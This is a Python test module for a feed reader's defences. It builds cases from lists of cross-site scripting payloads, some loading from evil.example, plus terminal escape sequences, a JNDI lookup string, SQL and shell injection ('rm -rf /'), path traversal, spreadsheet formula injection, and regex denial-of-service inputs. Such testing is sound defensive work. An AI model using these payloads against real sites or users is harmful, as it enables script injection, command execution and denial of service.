"""Titles, names and texts that would run as script, control a terminal, or hang a parser. Threats A9 to A12, A15."""

from __future__ import annotations

from typing import Any
from xml.sax.saxutils import escape

from tests.hostile.case import Case
from tests.support.feeds import Item, rss

# One case a line.
# fmt: off

LINK = "http://own.example/one"


def one(**fields: Any) -> bytes:
    return rss(Item(**{"link": LINK, **fields}))


# Runs in a browser, or after a cleaner (feedparser 6.0.14 lets four of these pass).
LIVE = [
    ("script", "<script>alert(1)</script>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-upper", "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>"),
    ("svg-onload", "<svg/onload=alert(1)>"),
    ("svg-script", "<svg><script>alert&#40;1)</script></svg>"),
    ("svg-animate", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>"),
    ("svg-use", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-slash", "<img/src='x'/onerror='alert(1)'>"),
    ("body-onload", "<body onload=alert(1)>x"),
    ("tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("newline-entity", '<a href="jav&NewLine;ascript&colon;alert(1)">x</a>'),
    ("control-scheme", '<a href="\x01javascript:alert(1)">x</a>'),
    ("upper-scheme", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("data-link", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("math-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("math-style", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"),
    ("form-action", '<form action="javascript:alert(1)"><button>x</button></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("iframe", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object", '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base", '<base href="javascript:alert(1)//"><a href="x">x</a>'),
    ("link-import", '<link rel="import" href="http://evil.example/x.html">'),
    ("style", "<style>@import 'http://evil.example/x.css';</style><p style='background:url(javascript:alert(1))'>x</p>"),
    ("details", "<details open ontoggle=alert(1)>x</details>"),
    ("video", "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>"),
    ("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    ("template", "<template><script>alert(1)</script></template>"),
    ("noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("comment-ie", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("xml-island", "<?xml-stylesheet href='javascript:alert(1)'?><xml><i><b><img src=1 onerror=alert(1)></b></i></xml>"),
    ("textarea", "<textarea></textarea><script>alert(1)</script>"),
    ("unclosed", '<p title="x><script>alert(1)</script>'),
    ("null-tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("overlong", "\xc0\xbcscript\xc0\xbealert(1)"),
    ("event-odd", '<p onclick\x0b="alert(1)" ONMOUSEOVER=alert(1)>x</p>'),
    ("image-data", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
    ("srcset", '<img src="http://own.example/a.png" srcset="javascript:alert(1) 2x">'),
    ("ping", '<a href="http://own.example/" ping="http://evil.example/" target="_blank">x</a>'),
    ("double-escaped", "&lt;script&gt;alert(1)&lt;/script&gt;"),
]

# Control a terminal, change the direction of text, or break a line.
STEER = [
    ("ansi", "\x1b[31mred\x1b[0m"),
    ("ansi-c1", "\x9b31mred"),
    ("osc-title", "\x1b]0;owned\x07"),
    ("osc-link", "\x1b]8;;http://evil.example/\x1b\\x\x1b]8;;\x1b\\"),
    ("clear", "\x1b[2J\x1b[H"),
    ("backspace", "good\x08\x08\x08\x08evil"),
    ("return", "good\rfailed  http://victim/"),
    ("newline", "one\nfailed  http://victim/: not found"),
    ("bidi-override", "abc\u202egnp.exe"),
    ("bidi-isolate", "abc\u2066def\u2069"),
    ("line-separator", "one\u2028two\u2029three"),
    ("null", "a\x00b"),
    ("rich-markup", "[bold red]x[/] [link=http://evil.example/]y[/link]"),
    ("percent", "%s %n %x {0} {__class__} ${jndi:ldap://evil.example/x}"),
    ("sql", "'; DROP TABLE story; --"),
    ("shell", "$(touch /tmp/x) `id` | rm -rf / ; &&"),
    ("path", "../../../../etc/passwd\u2044..\\..\\windows"),
    ("fts", '" OR NEAR( * AND title:'),
    ("zalgo", "Z" + "\u0301\u0316\u0340" * 500 + "algo"),
    ("combining", "e\u0301" * 3000),
    ("emoji", "👨‍👩‍👧‍👦" * 500),
    ("noncharacters", "\ufffe\uffff\U0001ffff"),
    ("tags", "a" + "".join(chr(0xE0000 + ord(letter)) for letter in "hidden") + "b"),
]

FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1", '"=1+1', "\u00a0=1+1", "＝1+1"]


def _controlled(text: str) -> str:
    """XML 1.0 does not allow most controls, yet feeds have them."""
    return text


SLOW = [  # author fields and dates on which regular expressions stall
    ("mail-long", {"author": "a@" * 50_000}),
    ("mail-parens", {"author": "x@y.z (" + "(" * 50_000}),
    ("mail-dots", {"author": "a." * 50_000 + "@b"}),
    ("author-and", {"author": " and ".join(["By A"] * 20_000)}),
    ("author-commas", {"author": "," * 200_000}),
    ("author-long", {"author": "Ann " * 100_000}),
    ("date-digits", {"date": "9" * 200_000}),
    ("date-spaces", {"date": "Tue," + " " * 200_000 + "x"}),
    ("date-colons", {"date": "1:" * 100_000}),
    ("title-1mb", {"title": "long " * 200_000}),
    ("title-entities", {"title": "&amp;" * 200_000}),
    ("title-tags", {"title": "<b>" * 200_000}),
    ("title-less", {"title": "<" * 500_000}),
    ("link-long", {"link": "http://own.example/" + "x" * 500_000}),
    ("guid-long", {"guid": "g" * 1_000_000}),
    ("text-1mb", {"text": "<p>word </p>" * 100_000}),
    ("text-spaces", {"text": "<p>a" + " " * 1_000_000 + "</p>"}),
    ("text-tables", {"text": "<table><tr><td>" * 20_000}),
    ("text-attributes", {"text": "<p " + "a=b " * 200_000 + ">x</p>"}),
    ("text-quotes", {"text": '<a title="' * 100_000}),
    ("text-images", {"text": '<img src="http://own.example/a.png" width=1 ' * 30_000}),
    ("text-pre", {"text": "<pre>" * 20_000 + "x"}),
    ("text-links", {"text": "<a href=x>" * 50_000}),
]


def _other_places(text: str) -> bytes:
    """A feed with the text in its title, a category, a name and the type of an enclosure."""
    value = escape(text)
    return (
        f'<rss version="2.0"><channel><title>{value}</title><link>{value}</link><language>{value}</language>'
        f"<item><title>elsewhere</title><link>{LINK}</link><category>{value}</category><author>{value}</author>"
        f'<guid isPermaLink="false">{value}</guid><enclosure url="http://own.example/a.mp3" type="{value.replace(chr(34), "")}"/>'
        f"<pubDate>{value}</pubDate></item></channel></rss>"
    ).encode("utf-8", "replace")


CASES = (
    *(Case(name=f"h-live-{name}", description=f"carries {text[:50]!r} in its text, title and summary", outcome="read", story_count=1,
           responses=({"body": rss(Item(title=f"t {text}", link=LINK, text=f"<p>before</p>{text}<p>after</p>", author=text))},))
      for name, text in LIVE),
    *(Case(name=f"h-steer-{name}", description=f"carries {text[:30]!r} in its title, author and text", outcome="read", story_count=1,
           responses=({"body": one(title=text, author=text, text=f"<p>{text}</p>", guid=text)},))
      for name, text in STEER),
    *(Case(name=f"h-elsewhere-{name}", description=f"carries {text[:30]!r} in its other fields", outcome="read", story_count=1,
           responses=({"body": _other_places(text)},))
      for name, text in (*STEER[:8], *LIVE[:2])),
    *(Case(name=f"h-formula-{number}", description=f"has a title that a spreadsheet would run: {text!r}", outcome="read", story_count=1,
           responses=({"body": one(title=text, author=text, text=f"<p>{text}</p>")},))
      for number, text in enumerate(FORMULAS)),
    *(Case(name=f"h-redos-{name}", description=f"has a field made to hang its reader ({', '.join(fields)})", outcome="read", story_count=1,
           responses=({"body": one(**fields)},))
      for name, fields in SLOW),
)
